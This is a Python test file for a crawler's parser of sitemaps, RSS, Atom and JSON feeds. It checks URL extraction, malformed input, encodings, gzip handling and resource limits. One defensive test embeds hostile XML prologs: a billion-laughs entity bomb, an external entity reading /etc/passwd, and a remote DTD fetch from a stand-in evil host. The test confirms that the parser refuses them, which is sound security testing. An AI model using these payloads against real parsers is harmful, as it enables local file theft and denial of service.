"""Sitemaps and feeds: the rules, the corpora, and what a hostile one costs."""

import gzip
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crawlog.streams.html.sitemap import parse
from crawlog.streams.html.sitemap_entries import SitemapEntry, changed_at, found_priority, newest_first

BASE = "http://a.example/dir/sitemap.xml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'


def locs(body: bytes | str, content_type: str = "") -> list[str]:
    """The URLs listed, with `+` before those of further sitemaps."""
    found = parse(body if isinstance(body, bytes) else body.encode(), BASE, content_type)
    return [one.loc for one in found.urls] + ["+" + one.loc for one in found.sitemaps]


def url(loc: str, more: str = "") -> str:
    """An entry of a urlset."""
    return f"<url><loc>{loc}</loc>{more}</url>"


@pytest.mark.parametrize(
    ("body", "listed"),
    [
        (HEAD + url("http://a.example/1") + url("http://a.example/2") + "</urlset>", ["http://a.example/1", "http://a.example/2"]),
        ("<sitemapindex><sitemap><loc>http://a.example/s.xml</loc></sitemap></sitemapindex>", ["+http://a.example/s.xml"]),
        ("<urlset>" + url("/x") + url("y") + url("//b.example/z") + "</urlset>",
         ["http://a.example/x", "http://a.example/dir/y", "http://b.example/z"]),
        ("<urlset>" + url("ftp://a.example/") + url("javascript:1") + url("mailto:a@b") + url("") + "</urlset>", []),
        ("<urlset>" + url("http://a.example/1") + url(" http://A.example:80/1#f ") + "</urlset>", ["http://a.example/1"]),
        (url("\n   http://a.example/1\n  "), ["http://a.example/1"]),
        (url("http://a.example/long/\n      path"), ["http://a.example/long/path"]),
        (url("<![CDATA[http://a.example/?a=1&b=2&amp;c]]>"), ["http://a.example/?a=1&b=2&amp;c"]),
        (url("http://a.example/<![CDATA[?a=1&b]]>"), ["http://a.example/?a=1&b"]),
        (url("http://a.example/?a=1&amp;b=2&#38;c=&#x33;"), ["http://a.example/?a=1&b=2&c=3"]),
        (url("http://a.example/?a=1&b=2&copy=3"), ["http://a.example/?a=1&b=2&copy=3"]),
        (url("http://a.example/&unknown;"), ["http://a.example/&unknown;"]),
        ("<urlset>" + url("http://a.example/1") + "<!-- " + url("http://a.example/2") + " -->", ["http://a.example/1"]),
        ('<ns:urlset xmlns:ns="x"><ns:url><ns:loc>http://a.example/1</ns:loc></ns:url></ns:urlset>', ["http://a.example/1"]),
        ('<urlset xmlns="http://wrong/">' + url("http://a.example/1"), ["http://a.example/1"]),
        ("<URLSET><Url><LOC>http://a.example/1</LOC></Url></URLSET>", ["http://a.example/1"]),
        (url("http://a.example/1", "<image:image><image:loc>http://a.example/i.png</image:loc></image:image>"), ["http://a.example/1"]),
        ("<url><image:loc>http://a.example/i.png</image:loc><loc>http://a.example/1</loc></url>", ["http://a.example/1"]),
        (url("http://a.example/1", '<xhtml:link rel="alternate" hreflang="de" href="http://a.example/de"/>'), ["http://a.example/1"]),
        (url("http://a.example/1", "<news:news><news:title>http://a.example/n</news:title></news:news>"), ["http://a.example/1"]),
        ("<urlset><loc>http://a.example/1</loc></urlset>", ["http://a.example/1"]),
        ("\n\n <?xml version='1.0'?>" + url("http://a.example/1"), ["http://a.example/1"]),
        ("Warning: something in x.php<br><urlset>" + url("http://a.example/1"), ["http://a.example/1"]),
        ("<!DOCTYPE urlset><urlset>" + url("http://a.example/1"), ["http://a.example/1"]),
        ("<html><head><title>Not found</title></head><body><a href='/x'>x</a></body></html>", []),
        ("", []),
        ("   ", []),
    ],
)  # fmt: skip
def test_what_a_sitemap_lists(body: str, listed: list[str]) -> None:
    """Whatever its namespaces, spaces and sections; extensions are passed over."""
    assert locs(body) == listed


@pytest.mark.parametrize(
    ("body", "listed"),
    [
        (url("http://a.example/1") + "<url><loc>http://a.example/2", ["http://a.example/1"]),
        (url("http://a.example/1") + "<url><loc>http://a.example/2</loc><lastmod>20", ["http://a.example/1", "http://a.example/2"]),
        ("<url><loc>http://a.example/1</loc><url><loc>http://a.example/2</loc></url>", ["http://a.example/1", "http://a.example/2"]),
        ("<url><loc>http://a.example/1<lastmod>2020</lastmod></url>", ["http://a.example/1"]),
        ("<url><loc>http://a.example/1</url>" + url("http://a.example/2"), ["http://a.example/1", "http://a.example/2"]),
        (url("http://a.example/1") + "</url></nothing>" + url("http://a.example/2"), ["http://a.example/1", "http://a.example/2"]),
        (url("http://a.example/1 < 2"), ["http://a.example/1%20%3C%202"]),
        ("<url><loc a='>http://a.example/1</loc></url>" + url("http://a.example/2"), ["http://a.example/1", "http://a.example/2"]),
    ],
)  # fmt: skip
def test_what_is_broken_is_read_as_far_as_it_goes(body: str, listed: list[str]) -> None:
    """A URL that the file's end cut is none; a missing end tag loses nothing."""
    assert locs("<urlset>" + body) == listed


@pytest.mark.parametrize(
    ("body", "listed"),
    [
        ("<url><loc>/1</loc><loc>/2</loc></url>" + url("/3"), ["/1", "/2", "/3"]),
        ("<url><loc>/1</loc><lastmod>2024</lastmod><loc>/2</loc><loc>/3</loc>", ["/1", "/2", "/3"]),
        ("<url><loc>/1<loc>/2</url>", ["/1", "/2"]),
        ("<sitemap><loc>/1</loc><loc>/2</loc></sitemap>", ["+/1", "+/2"]),
        ("<url><loc></loc><loc>/1</loc></url>", ["/1"]),
        ("<url><loc>/1</loc><image:loc>/i.png</image:loc><i:loc>/i.png</i:loc><image><loc>/i.png</loc></image></url>",
         ["/1"]),
        ("<url>http://a.example/1</url><url>\n http://a.example/2?a&amp;b\n</url>", ["/1", "/2?a&b"]),
        ("<url><![CDATA[http://a.example/1?a&amp;b]]></url>", ["/1?a&amp;b"]),
        ("<url>http://a.example/1<lastmod>2024</lastmod></url><url>http://a.example/2<url>http://a.example/3</url>",
         ["/1", "/2", "/3"]),
        ("<sitemap>http://a.example/1</sitemap>", ["+/1"]),
        ("<url>http://a.example/0<loc>/1</loc></url><url>/0</url><url>a title</url>", ["/1"]),
        ("<rss><item>http://a.example/1 and its title</item><item>no</item></rss>", ["/1"]),
        ("<rss><image><url>http://a.example/i.png</url></image><item><link>/1</link>http://a.example/0</item></rss>",
         ["/1"]),
        ("<rss><item><title>t</title><guid isPermaLink='false'>http://a.example/1</guid></item></rss>", ["/1"]),
        ("<rss><item><link/><guid>http://a.example/1</guid></item></rss>", ["/1"]),
        ("<rss><item><guid isPermaLink='false'>http://a.example/0</guid><link>/1</link></item></rss>", ["/1"]),
        ("<rss><item><guid isPermaLink='false'>5</guid></item></rss>", []),
        (url("www.b.example/1?q") + url("WWW.b.example") + url("www.b.example:81/#f"),
         ["http://www.b.example/1?q", "http://www.b.example/", "http://www.b.example:81/"]),
        (url("www.html") + url("www./x") + url("wwwx.b.example/1"),
         ["/dir/www.html", "/dir/www./x", "/dir/wwwx.b.example/1"]),
        ("<url>www.b.example/1</url>", ["http://www.b.example/1"]),
        ("<url>http://a.example/1</url><url>http://a.example/cu", ["/1"]),
        ("<rss xml:base='http://c.example/x/'><item><link>www.b.example/1</link></item></rss>", ["http://www.b.example/1"]),
        ("<rss><item><guid>www.b.example/1</guid></item></rss>", ["http://www.b.example/1"]),
        ("<feed><entry><link href='www.b.example/1'/></entry></feed>", ["http://www.b.example/1"]),
    ],
)  # fmt: skip
def test_entries_that_are_written_badly_are_taken(body: str, listed: list[str]) -> None:
    """A second `loc` is another entry, text can stand for it, a `guid` for a `link`, and `www.` for a scheme."""
    ours = [one.replace("http://a.example/", "/") for one in locs(f"<urlset>{body}" if "<rss" not in body else body)]
    assert ours == listed


def test_www_takes_the_scheme_of_the_file() -> None:
    """In lists of plain text too, and in JSON."""
    for body in (
        "www.b.example/1\nhttp://a.example/2\n",
        '{"items": [{"id": "www.b.example/1"}]}',
        url("www.b.example/1"),
    ):
        found = parse(body.encode(), "https://a.example/urls.txt").urls
        assert found[0].loc == "https://www.b.example/1"


@pytest.mark.parametrize(
    ("body", "listed"),
    [
        ("<rss><link>/</link><item><link>/1</link><guid>x</guid></item><image><url>/logo.png</url></image>",
         ["http://a.example/1"]),
        ("<rss><item><guid>http://a.example/1</guid></item><item><guid isPermaLink='false'>http://a.example/2</guid></item>",
         ["http://a.example/1", "http://a.example/2"]),
        ("<rss><item><atom:link href='http://a.example/self' rel='self'/><link>/1</link></item></rss>", ["http://a.example/1"]),
        ("<rdf:RDF><channel/><item rdf:about='x'><link>http://a.example/1</link></item></rdf:RDF>", ["http://a.example/1"]),
        ("<!DOCTYPE rss PUBLIC '-//N//DTD' 'http://n.example/rss.dtd'><rss><item><link>http://a.example/1</link></item>",
         ["http://a.example/1"]),
        ("<rss><item><description><p>a<br>b</description><link>http://a.example/1</link></item></rss>", ["http://a.example/1"]),
        ("<feed><link href='/'/><entry><link rel='alternate' href='/1?a&amp;b'/></entry></feed>", ["http://a.example/1?a&b"]),
        ("<entry><link rel='edit' href='/2'/><link href=\"3\"/></entry>", ["http://a.example/dir/3"]),
        ("<entry><link rel='self' href='/4'/></entry>", []),
        ("<feed><entry><source><link href='/0'/></source><link href='/1'></link></entry></feed>", ["http://a.example/1"]),
        ("<feed xml:base='http://b.example/x/'><entry><link href='1'/></entry></feed>", ["http://b.example/x/1"]),
        (("<feed xml:base='/x/'><entry xml:base=\"y/\"><link xml:base='z/?a&amp;b' href='1'/></entry>"
         "<entry><link href='2'/></entry>"),
         ["http://a.example/x/y/z/1", "http://a.example/x/2"]),
        (("<feed><entry xml:base='http://b.example/'><link href='1'><title>t</link></entry>"
         "<entry><link href='2'/></entry>"),
         ["http://b.example/1", "http://a.example/dir/2"]),
        ("<feed><entry><content xml:base='http://b.example/'>x</content><link href='1'/></entry>", ["http://a.example/dir/1"]),
        ("<feed xml:base='javascript:x'><entry xml:base='http://['><link href='1'/></entry>", ["http://a.example/dir/1"]),
        ("<feed base='http://b.example/'><entry><link href='1'/></entry>", ["http://a.example/dir/1"]),
        ("<rss xml:base='http://b.example/'><item><link>/1</link></item><item><link>http://a.example/2</link></item></rss>",
         ["http://b.example/1", "http://a.example/2"]),
        ("<feed xml:base='http://b.example/'><entry><link href=''/><id>tag:b.example,2024:1</id></entry></feed>", []),
        ("<feed><entry><id>http://a.example/1</id></entry><entry><id>urn:uuid:1</id></entry><entry><id>/2</id></entry></feed>",
         ["http://a.example/1"]),
        ("<feed><entry><id>http://a.example/1</id><link rel='self' href='/2'/></entry></feed>", ["http://a.example/1"]),
        ("<feed><entry><id>http://a.example/1</id><link href='/2'/></entry></feed>", ["http://a.example/2"]),
        ("<feed><id>http://a.example/</id><entry><source><id>http://b.example/</id></source><id>x</id>", []),
        (("<rss><item><guid isPermaLink='true'>http://a.example/1</guid></item>"
         "<item><guid isPermaLink=' False '>http://a.example/2</guid></item>"
         "<item><guid isPermaLink='true'>5</guid></item><item><guid>http://a.example/3</guid><link>/4</link></item></rss>"),
         ["http://a.example/1", "http://a.example/2", "http://a.example/4"]),
        ('{"items": [{"id": "http://a.example/1"}, {"id": "http://a.example/2", "external_url": "/3"}, {"id": "7"}]}',
         ["http://a.example/1", "http://a.example/3"]),
        ('{"items": [{"id": 7, "url": "/8"}, {"id": {}, "url": "/9"}]}', ["http://a.example/8", "http://a.example/9"]),
        ('{"version": "https://jsonfeed.org/version/1", "items": [{"url": "/1"}, {"id": "x"}]}', ["http://a.example/1"]),
        ('{"items": 1}', []),
        ("http://a.example/1\r\n\r\n  https://b.example/2 \nno url\nftp://a.example/\n/relative\rHTTP://a.example/3\t2024-01-02",
         ["http://a.example/1", "https://b.example/2", "http://a.example/3"]),
        ("<feed><entry><link title='a > b' href='http://a.example/?q=&lt;x>'/></entry></feed>", ["http://a.example/?q=%3Cx%3E"]),
        ("<feed><entry><link title=it's href='http://a.example/1'/></entry></feed>", ["http://a.example/1"]),
        ('{"items": [{"url": "http://a.example/1"}, 5, {"url": ["x"]}, {"url": "http://a.example/2"}]}',
         ["http://a.example/1", "http://a.example/2"]),
    ],
)  # fmt: skip
def test_feeds_and_text(body: str, listed: list[str]) -> None:
    """Entries only: a feed's own links, logo, editors and comments are not its pages."""
    assert locs(body) == listed


def test_dates_and_priorities_come_along() -> None:
    """As written; the frontier's numbers are made of them."""
    entries = parse(
        (
            url("/1", "<lastmod> 2024-05-01 </lastmod><priority>1.0</priority>")
            + url("/2", "<priority>x</priority>")
            + url("/3", "<lastmod>2025</lastmod><priority>0.2</priority>")
        ).encode(),
        BASE,
    ).urls
    assert [(one.lastmod, one.priority) for one in entries] == [("2024-05-01", 1.0), ("", None), ("2025", 0.2)]
    assert [found_priority(one) for one in entries] == [10, 0, -6]
    assert [one.loc[-1] for one in newest_first(entries)] == ["3", "1", "2"]
    feed = b"<rss><item><link>/1</link><pubDate>Sun, 06 Sep 2009 16:20:00 +0000</pubDate></item></rss>"
    assert parse(feed, BASE).urls == [SitemapEntry("http://a.example/1", "Sun, 06 Sep 2009 16:20:00 +0000")]


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("1970", 0.0),
        ("1970-01", 0.0),
        ("1970-01-02", 86_400.0),
        ("1970-01-01T00:01Z", 60.0),
        ("1970-01-01T01:00:01+01:00", 1.0),
        ("1970-01-01T00:00:01.5Z", 1.5),
        ("Thu, 01 Jan 1970 00:00:01 GMT", 1.0),
        ("yesterday", None),
        ("", None),
        ("99999999999999999999", None),
    ],
)
def test_each_form_of_a_date(text: str, at: float | None) -> None:
    """W3C's six and RFC 822's; UTC where no zone is named."""
    assert changed_at(text) == at


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b"\xef\xbb\xbf" + HEAD.encode() + url("/ü").encode(), ""),
        ("\ufeff<urlset>".encode("utf-16-le") + url("/ü").encode("utf-16-le"), ""),
        (("<urlset>" + url("/ü")).encode("utf-16-be"), ""),
        (b"<?xml version='1.0' encoding='iso-8859-1'?>" + url("/ü").encode("latin-1"), "text/xml"),
        (b"<urlset>" + url("/ü").encode("latin-1"), "text/xml; charset=ISO-8859-1"),
        (b"<?xml version='1.0' encoding='utf-16'?>" + url("/ü").encode(), ""),
        (gzip.compress(HEAD.encode() + url("/ü").encode(), mtime=0), "application/x-gzip"),
        (gzip.compress(gzip.compress(url("/ü").encode(), mtime=0), mtime=0), ""),
        (gzip.compress(b"<urlset>", mtime=0) + gzip.compress(url("/ü").encode(), mtime=0) + b"\0\0", ""),
        (gzip.compress(url("/ü").encode() + bytes(range(256)) * 99, mtime=0)[:-200], ""),
        (gzip.compress(url("/ü").encode(), mtime=0)[:-8] + b"checksum", ""),
        ("http://a.example/ü".encode(), "text/plain; charset=utf-8"),
    ],
)
def test_encodings_and_compressions(body: bytes, content_type: str) -> None:
    """Mark ▸ header ▸ declaration ▸ UTF-8; gzip by its first bytes, in members, twice, cut."""
    assert locs(body, content_type) == ["http://a.example/%C3%BC"]


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))


@pytest.mark.parametrize(
    "prolog",
    [
        f'<!DOCTYPE x [<!ENTITY l0 "http://a.example/lol">{LAUGHS}]>',
        '<!DOCTYPE x [<!ENTITY l8 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        '<!DOCTYPE x SYSTEM "a>b" [<!ENTITY l8 "http://a.example/">]>',
        "<!doctype x [",
    ],
)
def test_a_document_type_that_declares_something_ends_the_reading(prolog: str) -> None:
    """CVE-2026-41066, GHSA-vfmq-68hx-4jfw: nothing is expanded, opened or fetched."""
    found = parse(f"{prolog}<urlset>{url('&l8;')}{url('/1')}</urlset>".encode(), BASE)
    assert (found.urls, found.sitemaps, found.cut) == ([], [], "doctype")


def test_limits_cut() -> None:
    """Entries and decompressed bytes; what was read before stays."""
    body = ("<urlset>" + "".join(url(f"/{n}") for n in range(9))).encode()
    assert [one.loc[-1] for one in parse(body, BASE, max_urls=2).urls] == ["0", "1"]
    assert parse(body, BASE, max_urls=2).cut == "urls"
    assert parse(body, BASE, max_urls=9).cut == ""
    packed = gzip.compress(body + b" " * 1_000_000)
    assert (len(parse(packed, BASE, max_bytes=60).urls), parse(packed, BASE, max_bytes=60).cut) == (2, "bytes")
    assert parse(body, BASE, max_bytes=len(body)).cut == ""


@pytest.mark.parametrize(
    "piece",
    ["<", "<!--", "<!", "<?", "<![CDATA[", '<a "', "&", "<a>", "<url>", "</a>", "<link href ", "<link href=", "x", " "],
)
def test_no_run_of_anything_takes_longer_than_its_bytes(piece: str) -> None:
    """GHSA-cc65-xxvf-f7r9: a megabyte is read in seconds at worst, on a busy machine too."""
    body = ("<urlset><url><loc>" + piece * (300_000 // len(piece))).encode()
    started = time.process_time()
    parse(body, BASE)
    assert time.process_time() - started < 3


def test_a_file_of_empty_members_is_no_stall() -> None:
    """GHSA-h4cc-hm5h-fmm9 for gzipped sitemaps."""
    started = time.process_time()
    parse(gzip.compress(b"") * 20_000, BASE)
    assert time.process_time() - started < 3


@given(
    st.lists(
        st.sampled_from(
            [*"<>&;/ax'\"=[]! \n", "<url>", "<loc>", "</loc>", "http://a/", "<![CDATA[", "]]>", "<!--", "-->", "&amp;"]
        )
    )
)
def test_it_never_raises_and_chunks_do_not_matter(pieces: list[str]) -> None:
    """The same entries wherever the text is cut."""
    body = "<urlset>" + "".join(pieces) + url("http://a.example/")
    whole = parse(body.encode(), BASE)
    assert parse((" " * 65_530 + body).encode(), BASE) == whole


@given(st.binary())
def test_any_bytes_are_read(body: bytes) -> None:
    """As something or as nothing."""
    parse(body, BASE)
    parse(b"\x1f\x8b" + body, BASE)


@pytest.mark.parametrize(
    ("name", "urls", "sitemaps"),
    [
        ("feed.json", 25, 0),
        ("feed1.atom", 1, 0),
        ("feed2.rss", 1, 0),
        ("sitemap-hreflang.xml", 3, 1),
        ("sitemap.xml", 84, 0),
        ("sitemap.xml.gz", 84, 0),
        ("sitemap2.xml", 0, 2),
    ],
)
def test_the_corpus(testdata: Path, name: str, urls: int, sitemaps: int) -> None:
    """As many as its files list."""
    found = parse((testdata / "sitemaps-trafilatura" / name).read_bytes(), BASE)
    assert (len(found.urls), len(found.sitemaps)) == (urls, sitemaps)
